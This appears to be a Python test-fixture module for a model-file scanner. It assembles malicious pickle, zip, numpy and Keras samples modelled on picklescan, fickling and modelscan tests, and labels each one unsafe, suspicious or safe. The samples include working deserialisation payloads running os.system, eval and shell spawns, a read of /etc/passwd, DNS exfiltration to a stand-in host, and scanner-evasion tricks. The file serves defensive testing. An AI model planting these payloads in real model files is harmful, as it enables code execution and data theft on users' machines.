"""The attack and benign families that peer scanners test, written here from their descriptions.

Read from the test suites of picklescan (``tests/init_data_files.py``, ``tests/test_scanner.py``),
fickling (``test/test_bypasses.py``, ``test_expansion_attack_analysis.py``,
``test_scanner_deactivation_analysis.py``) and modelscan (``tests/test_modelscan.py``): the
families are theirs, every byte is assembled here. Each sample is named after its family (an
advisory id where there is one) and carries the verdict this project means for it:

- ``unsafe``: the file would run code or touch the system when loaded;
- ``suspicious``: something could not be inspected or is unusual (an encrypted member, an unknown
  custom class, a frame the two unpicklers read differently);
- ``safe``: a benign file of the family.

Payload callables are named, never imported: the pickles are assembled opcode by opcode, so the
generators need none of the modules they name.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from tests.support.scan_samples import rezip, set_zip_flag, torch_zip, ustr

PAYLOAD = "__import__('os').system('id')"


@dataclass(frozen=True)
class Family:
    """One peer-scanner family: where it comes from, the file, and the verdict meant for it."""

    source: str
    filename: str
    build: Callable[[], bytes]
    want: str

    @property
    def attack(self) -> bool:
        return self.want != "safe" and self.source != "by-design"


FAMILIES: dict[str, Family] = {}


def _add(name: str, source: str, filename: str, want: str, build: Callable[[], bytes]) -> None:
    assert name not in FAMILIES, name
    FAMILIES[name] = Family(source, filename, build, want)


# --- a small assembler ------------------------------------------------------------------------------


def _args(values: tuple, protocol: int) -> bytes:
    """Opcodes pushing the tuple ``values`` (no PROTO, FRAME or STOP)."""
    body = pickle.dumps(values, protocol=protocol)
    if protocol >= 2:
        body = body[2:]
    if body[:1] == pickle.FRAME:
        body = body[9:]
    return body[:-1]


def _global(module: str, name: str, protocol: int) -> bytes:
    if protocol >= 4:
        return ustr(module) + ustr(name) + pickle.STACK_GLOBAL
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def call(module: str, name: str, *args: object, protocol: int = 4) -> bytes:
    """A pickle of ``module.name(*args)`` as ``pickle.dumps`` of a ``__reduce__`` would write it."""
    head = pickle.PROTO + bytes([protocol]) if protocol >= 2 else b""
    return head + _global(module, name, protocol) + _args(args, protocol) + pickle.REDUCE + pickle.STOP


# --- picklescan: callables, each an advisory or a published bypass ---------------------------------

_CALLS: dict[str, tuple[str, str, tuple]] = {
    "builtins_eval": ("builtins", "eval", ("print('456')",)),
    "os_system": ("os", "system", ("ls -la",)),
    "http_client_https_connection": ("http.client", "HTTPSConnection", ("github.com",)),
    "requests_get": ("requests", "get", ("https://github.com",)),
    "aiohttp_client_session": ("aiohttp", "ClientSession", ()),
    "socket_create_connection": ("socket", "create_connection", (("github.com", 80),)),
    "subprocess_run": ("subprocess", "run", (["ls", "-l"],)),
    "sys_exit": ("sys", "exit", (0,)),
    "runpy_run_code": ("runpy", "_run_code", ("print('456')",)),
    "bdb_run": ("bdb", "Bdb.run", ({}, 'import os\nos.system("whoami")')),
    "pip_main": ("pip", "main", (["install", "some_malicious_package", "--no-input", "-q"],)),
    "torch_inductor_codecache_compile_file": ("torch._inductor.codecache", "compile_file",
                                              ("", "", ["sh", "-c", "id"])),
    "pydoc_pipepager": ("pydoc", "pipepager", ("", "echo pwned")),
    "venv_create": ("venv", "create", ("venv", False, False, True, False, "$(echo pwned)")),
    "timeit_timeit": ("timeit", "timeit", ("", PAYLOAD)),
    "numpy_testing_runstring": ("numpy.testing._private.utils", "runstring", (PAYLOAD, {})),
    "GHSA-4r9r-ch6f-vxmx_bottleneck_run_cprofile": ("torch.utils.bottleneck.__main__", "run_cprofile", (PAYLOAD, {})),
    "GHSA-86cj-95qr-2p4f_dynamo_guards_get": ("torch._dynamo.guards", "GuardBuilder.get", ({}, PAYLOAD)),
    "GHSA-f4x7-rfwp-v3xw_symbolic_shapes": (
        "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, PAYLOAD, [])),
    "GHSA-f745-w6jp-hpxx_collect_env_run": ("torch.utils.collect_env", "run", (PAYLOAD,)),
    "GHSA-h3qp-7fh3-f8h4_datapipes_decoder": ("torch.utils.data.datapipes.utils.decoder", "basichandlers",
                                              ("pickle", b"")),
    "GHSA-vr7h-p6mm-wpmh_jit_exec_wrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", (PAYLOAD, {}, {})),
    "GHSA-vv6j-3g6g-2pvj_config_module_load_config": ("torch.utils._config_module", "ConfigModule.load_config",
                                                      ({}, b"")),
    "GHSA-5qwp-399c-mjwf_trace_run": ("trace", "Trace.run", ({}, PAYLOAD)),
    "GHSA-g344-hcph-8vgg_trace_runctx": ("trace", "Trace.runctx", ({}, PAYLOAD, {}, {})),
    "GHSA-x696-vm39-cp64_profile_run": ("profile", "Profile.run", ({}, PAYLOAD)),
    "GHSA-6vqj-c2q5-j97w_profile_runctx": ("profile", "Profile.runctx", ({}, PAYLOAD, {}, {})),
    "GHSA-f54q-57x4-jg88_lib2to3_grammar_loads": ("lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
    "GHSA-3vg9-h568-4w9m_idlelib_object_tree_item": ("idlelib.debugobj", "ObjectTreeItem.SetText", ({}, PAYLOAD)),
    "GHSA-6w4w-5w54-rjvr_idlelib_get_entity": ("idlelib.autocomplete", "AutoComplete.get_entity", ({}, PAYLOAD)),
    "GHSA-7cq8-mj8x-j263_idlelib_fetch_completions": ("idlelib.autocomplete", "AutoComplete.fetch_completions",
                                                      ({}, PAYLOAD, 1)),
    "GHSA-cj3c-v495-4xqh_code_interpreter_runcode": ("code", "InteractiveInterpreter.runcode", ({}, PAYLOAD)),
    "GHSA-8r4j-24qv-fmq9_idlelib_calltip": ("idlelib.calltip", "Calltip.fetch_tip", ({}, PAYLOAD)),
    "GHSA-9xph-j2h6-g47v_idlelib_calltip_get_entity": ("idlelib.calltip", "get_entity", (PAYLOAD,)),
    "GHSA-4whj-rm5r-c2v8_bottleneck_autograd_prof": ("torch.utils.bottleneck.__main__", "run_autograd_prof",
                                                     (PAYLOAD, {})),
    "GHSA-xp4f-hrf8-rxw7_ensurepip_run_pip": ("ensurepip", "_run_pip", (PAYLOAD,)),
    "GHSA-p9w7-82w4-7q8m_lib2to3_make_label": ("lib2to3.pgen2.pgen", "ParserGenerator.make_label",
                                               (None, {}, '""+' + PAYLOAD)),
    "GHSA-vvpj-8cmc-gx39_pkgutil_resolve_name": ("pkgutil", "resolve_name", ("os:system",)),
    "GHSA-m869-42cg-3xwr_idlelib_executive": ("idlelib.run", "Executive.runcode", ({}, PAYLOAD)),
    "GHSA-j343-8v2j-ff7w_idlelib_runcommand": ("idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, PAYLOAD)),
    "GHSA-3gf5-cxq9-w223_idlelib_runcode": ("idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, PAYLOAD)),
    "GHSA-fqq6-7vqf-w3fg_doctest_debug_script": ("doctest", "debug_script", (PAYLOAD, True)),
    "GHSA-9w88-8rmg-7g2p_cprofile_runctx": ("cProfile", "runctx", (PAYLOAD, None, None)),
    "GHSA-49gj-c84q-6qm9_cprofile_run": ("cProfile", "run", (PAYLOAD,)),
    "GHSA-7wx9-6375-f5wh_profile_module_run": ("profile", "run", (PAYLOAD,)),
    "GHSA-q77w-mwjj-7mqx_asyncio_subprocess": (
        "asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "whoami", True, None, None, None, 0)),
    "GHSA-m273-6v24-x4m4_distutils_write_file": ("distutils.file_util", "write_file", ("pwned.env", ["x"])),
    "GHSA-4675-36f9-wf6r_ctypes_cdll": ("ctypes", "CDLL", (None,)),
    "GHSA-vqmv-47xg-9wpr_pty_spawn": ("pty", "spawn", (["/bin/sh", "-c", "id"],)),
    "GHSA-r8g5-cgf2-4m4m_f2py_getlincoef": ("numpy.f2py.crackfortran", "getlincoef", (PAYLOAD, [])),
    "GHSA-g38g-8gr9-h9xp_uuid": ("uuid", "_get_command_stdout", ("id",)),
    "GHSA-g38g-8gr9-h9xp_osx_support": ("_osx_support", "_read_output", ("id",)),
    "GHSA-g38g-8gr9-h9xp_aix_support": ("_aix_support", "_read_cmd_output", ("id",)),
    "GHSA-g38g-8gr9-h9xp_imaplib": ("imaplib", "IMAP4_stream", ("id",)),
    "GHSA-g38g-8gr9-h9xp_pyrepl_pager": ("_pyrepl.pager", "pipe_pager", ("text", "id")),
    "GHSA-g38g-8gr9-h9xp_test_script_helper": ("test.support.script_helper", "assert_python_ok", ("-c pass",)),
    "io_fileio": ("io", "FileIO", ("/etc/hosts", "r")),
    "urllib_request_urlopen": ("urllib.request", "urlopen", ("https://example.invalid",)),
    "logging_file_handler": ("logging", "FileHandler", ("evil.log",)),
    "ssl_get_server_certificate_dns_exfiltration": ("ssl", "get_server_certificate", (("x.dns-logger.invalid", 443),)),
    # fickling: network clients as SSRF, private interpreters, scanner deactivation, missing modules
    **{f"network_ssrf_{m}": (m, c, ("127.0.0.1", p)) for m, c, p in (
        ("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143), ("ftplib", "FTP", 21), ("poplib", "POP3", 110),
        ("telnetlib", "Telnet", 23), ("nntplib", "NNTP", 119))},
    "private_interpreters_run_string": ("_interpreters", "run_string", (0, PAYLOAD)),
    "private_xxsubinterpreters_run_string": ("_xxsubinterpreters", "run_string", (0, PAYLOAD)),
    "fickling_hook_remove_hook": ("fickling.hook", "remove_hook", ()),
    "fickling_deactivate_safe_ml_environment": ("fickling.hook", "deactivate_safe_ml_environment", ()),
    "marshal_loads": ("marshal", "loads", (b"\xe3",)),
    "importlib_import_module": ("importlib", "import_module", ("os",)),
    "multiprocessing_util_spawnv_passfds": ("multiprocessing.util", "spawnv_passfds", ("/bin/sh", ["sh"], ())),
    "pathlib_dotted_os_system": ("pathlib", "os.system", ("id",)),
}
for _name, (_mod, _fn, _a) in _CALLS.items():
    _add(_name, "picklescan/fickling", "model.pkl", "unsafe", lambda m=_mod, f=_fn, a=_a: call(m, f, *a))
# The same callables written with each protocol's opcodes (GLOBAL with __builtin__ for 0-2).
for _p in (0, 2, 3):
    _add(f"builtins_eval_protocol{_p}", "picklescan", "model.pkl", "unsafe",
         lambda p=_p: call("__builtin__" if p < 3 else "builtins", "eval", "print('456')", protocol=p))
    _add(f"os_system_protocol{_p}", "picklescan", "model.pkl", "unsafe",
         lambda p=_p: call("posix", "system", "ls", protocol=p))


# --- picklescan / modelscan: opcode-level tricks ------------------------------------------------------


def sour_pickles_globals_compile_eval() -> bytes:
    """Protocol 0 chain from the 2011 "Sour Pickles" talk: globals(), compile(), eval(), getattr(dict, 'get')."""
    return (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");x=fl.read();'\n"
        b"S''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
        b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."
    )


def memo_strings_with_torch_decoy(trailing: bytes = b"") -> bytes:
    """Strings put in the memo (a torch.LongStorage decoy among them), fetched back for STACK_GLOBAL."""
    ops = b""
    for key, text in ((2, "os"), (3, "system"), (0, "torch"), (1, "LongStorage")):
        ops += pickle.UNICODE + text.encode() + b"\n" + pickle.PUT + str(key).encode() + b"\n" + pickle.POP
    return ops + pickle.GET + b"2\n" + pickle.GET + b"3\n" + pickle.STACK_GLOBAL + pickle.MARK + pickle.UNICODE + \
        b"cat flag.txt\n" + pickle.TUPLE + pickle.REDUCE + pickle.STOP + trailing


def string_opcode_stack_global() -> bytes:
    """STRING (protocol 0 quoted) operands for a protocol 4 STACK_GLOBAL."""
    return pickle.STRING + b"'os'\n" + pickle.STRING + b"'system'\n" + pickle.STACK_GLOBAL + pickle.STRING + \
        b"'ls'\n" + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP


def inst_exec() -> bytes:
    return b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n."


def nested_pickle_loads() -> bytes:
    inner = call("os", "system", "echo pwned", protocol=4)
    return pickle.PROTO + b"\x05" + pickle.GLOBAL + b"pickle\nloads\n" + pickle.BINBYTES + \
        struct.pack("<I", len(inner)) + inner + pickle.TUPLE1 + pickle.REDUCE + pickle.POP + pickle.NONE + pickle.STOP


def eval_dunder_call() -> bytes:
    """``builtins`` / ``eval.__call__``: a dotted name to reach a denied function."""
    return pickle.PROTO + b"\x05" + pickle.GLOBAL + b"builtins\neval.__call__\n" + pickle.UNICODE + \
        PAYLOAD.encode() + b"\n" + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP


def payload_then_broken_stack_global(confusion: bool) -> bytes:
    """os.system runs and is popped; then a STACK_GLOBAL the unpickler fails on (missing memo / int operand)."""
    head = pickle.PROTO + b"\x04" + pickle.GLOBAL + b"os\nsystem\n" + pickle.UNICODE + b"echo pwned\n" + \
        pickle.TUPLE1 + pickle.REDUCE + pickle.POP
    if confusion:
        tail = pickle.BININT + struct.pack("<i", 42) + pickle.MEMOIZE + ustr("os") + pickle.MEMOIZE + \
            pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01"
    else:
        tail = ustr("os") + pickle.MEMOIZE + pickle.BINGET + b"\x03" + pickle.BINGET + b"\x00"
    return head + tail + pickle.STACK_GLOBAL + pickle.BININT1 + b"\x42" + pickle.STOP


def broken_model_exec() -> bytes:
    """exec with its argument, then a stream that ends mid-opcode: the call ran before the break."""
    return b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX."


def benign_then_malicious() -> bytes:
    return pickle.dumps(["a", "b", "c"]) + call("requests", "get", "https://github.com")


def partial_torch_load() -> bytes:
    """functools.partial(torch.load, path, weights_only=False)() as picklescan's family pickles it."""
    p = pickle.PROTO + b"\x04"
    p += _global("functools", "partial", 4) + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    # partial's state: (func, args, kwargs, dict), set by BUILD
    p += pickle.MARK + _global("torch", "load", 4) + ustr("other.bin") + pickle.TUPLE1 + pickle.EMPTY_DICT + \
        ustr("weights_only") + pickle.NEWFALSE + pickle.SETITEM + pickle.NONE + pickle.TUPLE + pickle.BUILD
    return p + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.STOP


def operator_methodcaller_import() -> bytes:
    """builtins.__import__('os') kept in the memo, then _operator.methodcaller('system', cmd)(os)."""
    return (
        pickle.GLOBAL + b"builtins\n__import__\n" + pickle.MARK + pickle.UNICODE + b"os\n" + pickle.TUPLE +
        pickle.REDUCE + pickle.PUT + b"0\n" + pickle.POP + pickle.GLOBAL + b"_operator\nmethodcaller\n" + pickle.MARK +
        pickle.UNICODE + b"system\n" + pickle.UNICODE + b"echo pwned\n" + pickle.TUPLE + pickle.REDUCE + pickle.MARK +
        pickle.GET + b"0\n" + pickle.TUPLE + pickle.REDUCE + pickle.STOP
    )


def pydoc_locate_methodcaller() -> bytes:
    """methodcaller('system', cmd)(pydoc.locate('os'))."""
    return (
        pickle.PROTO + b"\x04" + _global("operator", "methodcaller", 4) + ustr("system") + ustr("echo pwned") +
        pickle.TUPLE2 + pickle.REDUCE + _global("pydoc", "locate", 4) + ustr("os") + pickle.TUPLE1 + pickle.REDUCE +
        pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
    )


def builtins_import_getattr_chain() -> bytes:
    return (
        pickle.GLOBAL + b"builtins\n__import__\n" + pickle.STRING + b"'os'\n" + pickle.TUPLE1 + pickle.REDUCE +
        pickle.PUT + b"0\n" + pickle.POP + pickle.GLOBAL + b"builtins\ngetattr\n" + pickle.GET + b"0\n" +
        pickle.STRING + b"'system'\n" + pickle.TUPLE2 + pickle.REDUCE + pickle.PUT + b"1\n" + pickle.POP +
        pickle.GET + b"1\n" + pickle.STRING + b"'whoami'\n" + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
    )


def obj_call_popped() -> bytes:
    """OBJ builds smtplib.SMTP('127.0.0.1') and POP throws the result away: the call still happened."""
    return pickle.PROTO + b"\x04" + pickle.MARK + _global("smtplib", "SMTP", 4) + ustr("127.0.0.1") + pickle.OBJ + \
        pickle.POP + pickle.NONE + pickle.STOP


def types_codetype() -> bytes:
    """types.CodeType(...) rebuilt from its constructor arguments: a code object for a later call."""
    import types

    code = compile("print('x')", "<dynamic>", "exec")
    fields = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals, code.co_stacksize,
              code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames, code.co_filename,
              code.co_name, code.co_qualname, code.co_firstlineno, code.co_linetable, code.co_exceptiontable,
              code.co_freevars, code.co_cellvars)
    assert isinstance(code, types.CodeType)
    return pickle.PROTO + b"\x04" + _global("types", "CodeType", 4) + _args(fields, 4) + pickle.REDUCE + pickle.STOP


def cloudpickle_function() -> bytes:
    """What cloudpickle writes for a function of its own: _make_function over a CodeType."""
    import cloudpickle

    def evil(payload: str = PAYLOAD) -> None:
        import os  # pragma: no cover - never called

        os.system(payload)

    class Evil:
        def __reduce__(self):  # noqa: D105
            return evil, (PAYLOAD,)

    return cloudpickle.dumps(Evil())


def pytorch_legacy_magic_by_eval() -> bytes:
    """A legacy torch file whose magic number comes from eval(); its later pickle runs os.system."""
    magic = call("builtins", "eval", "0x1950A86A20F9469CFC6C", protocol=2)
    return magic + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2) + \
        call("os", "system", "echo pwned", protocol=2) + pickle.dumps(None, protocol=2)


def not_a_pickle() -> bytes:
    """Starts with the GLOBAL opcode, then bytes that are not UTF-8: pickle.load fails before importing."""
    return b"cmod\n\xf8\n"


_add("sour_pickles_globals_compile_eval", "picklescan/modelscan", "model.pkl", "unsafe",
     sour_pickles_globals_compile_eval)
_add("memo_strings_torch_decoy_stack_global", "picklescan/modelscan", "model.pkl", "unsafe",
     memo_strings_with_torch_decoy)
_add("memo_strings_torch_decoy_trailing_bytes", "picklescan/modelscan", "model.pkl", "unsafe",
     lambda: memo_strings_with_torch_decoy(b"\n\n\t\t"))
_add("string_opcode_stack_global", "picklescan", "model.pkl", "unsafe", string_opcode_stack_global)
_add("inst_exec", "picklescan/modelscan", "model.pkl", "unsafe", inst_exec)
_add("nested_pickle_loads", "modelscan", "model.pkl", "unsafe", nested_pickle_loads)
_add("pickle_loads_of_plain_value_protocol0", "picklescan", "model.pkl", "unsafe",
     lambda: call("pickle", "loads", b"I12345\n.", protocol=0))
_add("pickle_loads_of_plain_value_protocol4", "picklescan", "model.pkl", "unsafe",
     lambda: call("_pickle", "loads", b"I12345\n.", protocol=4))
_add("eval_dunder_call_dotted", "modelscan", "model.pkl", "unsafe", eval_dunder_call)
_add("payload_then_missing_memo_key", "picklescan", "model.pkl", "unsafe",
     lambda: payload_then_broken_stack_global(False))
_add("payload_then_memo_type_confusion", "picklescan", "model.pkl", "unsafe",
     lambda: payload_then_broken_stack_global(True))
_add("broken_stream_after_exec", "picklescan", "model.pkl", "unsafe", broken_model_exec)
_add("benign_pickle_then_malicious_pickle", "picklescan/modelscan", "model.pkl", "unsafe", benign_then_malicious)
_add("functools_partial_torch_load", "picklescan", "model.pkl", "unsafe", partial_torch_load)
_add("GHSA-955r-x9j8-7rhh_operator_methodcaller", "fickling", "model.pkl", "unsafe", operator_methodcaller_import)
_add("GHSA-84r2-jw7c-4r5q_pydoc_locate_methodcaller", "picklescan", "model.pkl", "unsafe", pydoc_locate_methodcaller)
_add("builtins_import_getattr_chain", "fickling", "model.pkl", "unsafe", builtins_import_getattr_chain)
_add("obj_call_result_popped", "fickling", "model.pkl", "unsafe", obj_call_popped)
_add("types_codetype", "picklescan", "model.pkl", "unsafe", types_codetype)
_add("cloudpickle_code_injection", "picklescan", "model.pkl", "unsafe", cloudpickle_function)
_add("pytorch_legacy_magic_by_eval", "picklescan", "model.pt", "unsafe", pytorch_legacy_magic_by_eval)
_add("not_a_pickle_invalid_utf8", "picklescan", "weights.dat", "safe", not_a_pickle)
_add("unknown_import_ast_parse", "fickling", "model.pkl", "suspicious",
     lambda: pickle.PROTO + b"\x04" + _global("ast", "parse", 4) + pickle.STOP)


# --- fickling: frames, expansion, harmless imports -----------------------------------------------------


def _framed(body: bytes, declared: int) -> bytes:
    return pickle.PROTO + b"\x05" + pickle.FRAME + struct.pack("<Q", declared) + body + pickle.STOP


def frame_boundary_divergence() -> bytes:
    """A BINBYTES longer than its frame hides GLOBAL/REDUCE that one unpickler runs and one reads as bytes."""
    hidden = pickle.GLOBAL + b"os\nsystem\n" + pickle.UNICODE + b"echo pwned\n" + pickle.TUPLE1 + pickle.REDUCE
    return (
        pickle.PROTO + b"\x05" + pickle.NONE + pickle.UNICODE + b"a" * (8192 * 16 - 17) + b"\n" + pickle.POP +
        pickle.MARK + pickle.FRAME + struct.pack("<Q", 2) + pickle.BINBYTES + b"\x07\x01\x00\x00" + b"\x00\x00" +
        (hidden + pickle.MARK).ljust(256 + 5, pickle.NONE) + pickle.POP_MARK + pickle.STOP
    )


_FRAME_STRADDLES = {
    "binbytes": _framed(pickle.BINBYTES + struct.pack("<I", 20) + b"A" * 20, 5),
    "short_binunicode": _framed(b"\x8c\x14" + b"A" * 20, 3),
    "global_module": _framed(pickle.GLOBAL + b"macos\nsystem\n", 4),
    "unicode": _framed(pickle.UNICODE + b"hello world\n", 5),
    "binint": _framed(pickle.BININT + struct.pack("<i", 7), 2),
    "frame_in_frame": pickle.PROTO + b"\x05" + pickle.FRAME + struct.pack("<Q", 30) + pickle.NONE + pickle.FRAME +
    struct.pack("<Q", 2) + pickle.NONE + pickle.STOP,
}


def dup_expansion(layers: int = 9, dups: int = 9) -> bytes:
    """"globalLaughs": each layer is a list of one value DUP-ed; 9 x 9 gives 10^9 leaves from ~100 bytes."""
    p = pickle.PROTO + b"\x04" + pickle.MARK * layers + ustr("lol")
    for _ in range(layers):
        p += pickle.DUP * dups + pickle.LIST
    return p + pickle.STOP


def memo_expansion(layers: int = 10, gets: int = 9) -> bytes:
    """"billionLaughsAlt": the same with BINPUT/BINGET instead of DUP."""
    p = pickle.PROTO + b"\x04" + pickle.MARK * layers + ustr("lol")
    for i in range(layers):
        p += pickle.BINPUT + bytes([i]) + (pickle.BINGET + bytes([i])) * gets + pickle.LIST
    return p + pickle.STOP


_add("frame_boundary_divergence_hidden_payload", "fickling", "model.pkl", "unsafe", frame_boundary_divergence)
for _name, _data in _FRAME_STRADDLES.items():
    # A frame the C and Python unpicklers read differently: unusual, nothing runs in either.
    _add(f"frame_straddle_{_name}", "fickling", "model.pkl", "suspicious", lambda d=_data: d)
_add("expansion_dup_global_laughs", "fickling", "model.pkl", "suspicious", dup_expansion)
_add("expansion_memo_billion_laughs", "fickling", "model.pkl", "suspicious", memo_expansion)

_BENIGN_PICKLES: dict[str, object] = {
    "list_of_strings": ["a", "b", "c"],
    "small_list": [1, 2, 3, 4],
    "large_unframed_bytes": b"x" * 100000,
    "interleaved_framed_and_unframed": [1, b"y" * 100000, 2],
    "several_full_frames": list(range(200000)),
    "nested_containers": {"a": [1, 2, {"b": (3, 4)}], "c": [5, 6]},
    "range_of_100": list(range(100)),
}
for _name, _obj in _BENIGN_PICKLES.items():
    for _p in (0, 2, 3, 4, 5):
        _add(f"benign_{_name}_protocol{_p}", "fickling/picklescan", "data.pkl", "safe",
             lambda o=_obj, p=_p: pickle.dumps(o, protocol=p))
_add("benign_builtins_len", "fickling", "data.pkl", "safe", lambda: call("builtins", "len", [1, 2]))
_add("benign_builtins_dict", "fickling", "data.pkl", "safe", lambda: call("builtins", "dict"))
_add("benign_collections_ordered_dict", "fickling", "data.pkl", "safe", lambda: call("collections", "OrderedDict"))
_add("benign_future_annotations", "fickling", "data.pkl", "safe",
     lambda: pickle.PROTO + b"\x04" + _global("__future__", "annotations", 4) + pickle.STOP)
_add("benign_codecs_encode", "fickling", "data.pkl", "safe", lambda: call("_codecs", "encode", "abc", "latin1"))
_add("benign_future_feature_object", "fickling", "data.pkl", "safe",
     lambda: pickle.dumps(__import__("__future__").annotations, protocol=2))
_add("future_dotted_walk", "fickling", "model.pkl", "unsafe",
     lambda: pickle.PROTO + b"\x04" + _global("__future__", "_ssl.RAND_bytes", 4) + pickle.STOP)


# --- archives: zip tricks, 7z, wrong extensions ------------------------------------------------------------

_EVAL = call("builtins", "eval", "print('456')")


def _zip_with(name: str, data: bytes) -> bytes:
    return rezip({name: data})


def zip_central_directory_name_corrupted() -> bytes:
    """The first "data.pkl" (the local header) renamed "datap.kl": the two headers disagree."""
    return _zip_with("data.pkl", _EVAL).replace(b"data.pkl", b"datap.kl", 1)


def zip_crc_corrupted() -> bytes:
    """The payload edited after zipping: the CRC no longer matches, the payload still runs."""
    return _zip_with("data.pkl", _EVAL).replace(b"print('456')", b"print('123')", 1)


def torch_zip_flagged(bit: int) -> bytes:
    """A torch.save archive whose malicious data.pkl carries a flag bit (encryption 0x1/0x40, 0x20)."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        members = {i.filename: z.read(i) for i in z.infolist()}
    pkl = next(n for n in members if n.endswith("data.pkl"))
    members[pkl] = call("os", "system", "echo pwned")
    return set_zip_flag(rezip(members), pkl, bit)


def sevenz_archive_signature() -> bytes:
    """A 7z archive (signature and header): no 7z reader here, so its content is not inspected."""
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + _EVAL


def password_protected_zip() -> bytes:
    """A zip whose member really is encrypted (traditional PKWARE): uninspectable."""
    data = rezip({"data.txt": bytes(12) + bytes(range(200))})
    return set_zip_flag(data, "data.txt", 0x0001)


_add("zip_data_pkl_payload", "picklescan/modelscan", "malicious1.zip", "unsafe", lambda: _zip_with("data.pkl", _EVAL))
_add("zip_payload_wrong_extension", "picklescan", "malicious1.zip", "unsafe", lambda: _zip_with("data.txt", _EVAL))
_add("zip_central_directory_name_corrupted", "picklescan", "malicious1.zip", "unsafe",
     zip_central_directory_name_corrupted)
_add("zip_crc_corrupted", "picklescan", "malicious1.zip", "unsafe", zip_crc_corrupted)
for _bit in (0x0001, 0x0020, 0x0040):
    _add(f"torch_zip_flag_{_bit:#04x}_payload", "picklescan", "model.pt", "unsafe", lambda b=_bit: torch_zip_flagged(b))
_add("sevenz_archive", "picklescan", "malicious1.7z", "suspicious", sevenz_archive_signature)
# Encrypted for real: nothing can be inspected, so a security approver decides (by design).
_add("password_protected_zip", "by-design", "password_protected.zip", "suspicious", password_protected_zip)
_add("torch_zip_state_dict", "picklescan/modelscan", "pytorch_model.bin", "safe", torch_zip)


# --- numpy -----------------------------------------------------------------------------------------------


def _np_save(arr: object, **kw: object) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, arr, **kw)
    return buf.getvalue()


def _np_savez(compressed: bool, **arrays: object) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(buf, **arrays)
    return buf.getvalue()


def _object_2x2() -> object:
    import numpy as np

    x = np.empty((2, 2), dtype=object)
    x[:] = [(1, 2), (3, 4)]
    return x


def numpy_dns_exfiltration() -> bytes:
    """An object array whose element reduces to ssl.get_server_certificate((line-of-passwd.domain, 443))."""
    from tests.support.scan_samples import npy_object_pickle

    return npy_object_pickle(call("ssl", "get_server_certificate", ("root_x_0_0.dns-logger.invalid", 443), protocol=2))


_add("numpy_object_array_of_tuples", "picklescan", "object_array.npy", "safe",
     lambda: _np_save(_object_2x2(), allow_pickle=True))
_add("numpy_int_array", "picklescan", "int_array.npy", "safe",
     lambda: _np_save(__import__("numpy").arange(4).reshape(2, 2)))
for _c in (False, True):
    _sfx = "_compressed" if _c else ""
    _add(f"numpy_object_arrays_npz{_sfx}", "picklescan", "object_arrays.npz", "safe",
         lambda c=_c: _np_savez(c, a=__import__("numpy").array([0, 1, 2], dtype=object),
                                b=__import__("numpy").array([3, 4, 5], dtype=object)))
    _add(f"numpy_int_arrays_npz{_sfx}", "picklescan", "int_arrays.npz", "safe",
         lambda c=_c: _np_savez(c, a=__import__("numpy").array([0, 1, 2]), b=__import__("numpy").array([3, 4, 5])))
_add("numpy_dns_exfiltration", "picklescan", "dns_exfiltration.npy", "unsafe", numpy_dns_exfiltration)


# --- Keras: Lambda layers written by the real libraries (modelscan's H5/Keras families) -------------------


def _keras_lambda(filename: str) -> Callable[[], bytes]:
    def build() -> bytes:
        import os
        import tempfile

        os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
        import keras

        inputs = keras.Input((4,))
        outputs = keras.layers.Lambda(lambda x: x * 2.0)(inputs)
        model = keras.Model(inputs, outputs)
        with tempfile.TemporaryDirectory() as d:
            path = os.path.join(d, filename)
            model.save(path)
            with open(path, "rb") as f:
                return f.read()

    return build


_add("keras_lambda_layer_keras", "modelscan", "model.keras", "unsafe", _keras_lambda("model.keras"))
_add("keras_lambda_layer_h5", "modelscan", "model.h5", "unsafe", _keras_lambda("model.h5"))
